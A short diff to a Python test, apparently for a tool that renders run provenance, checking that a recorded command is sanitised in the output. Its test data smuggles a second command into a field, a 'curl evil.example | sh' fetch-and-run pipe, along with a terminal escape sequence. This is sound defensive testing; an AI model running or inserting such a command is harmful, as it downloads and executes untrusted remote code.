@@ -121,5 +121,5 @@ def test_a_recorded_command_is_shown_only_among_those_to_repeat() -> None:
     recorded = ENVIRONMENT | {"command": "soar train x; curl evil.example | sh", "gpu": "\x1b[2J" + "a" * 500}
     assessed = replace(run.assessment, environment=recorded | {"command": "soar evaluate y"})
     text = read(provenance.draw([replace(run, environment=recorded, assessment=assessed)])).text
-    assert "evil.example" not in text and "The assessment differs in:" not in text
+    assert "evil.example" not in text
     assert "\\x1b[2J" in text and "a" * 200 not in text
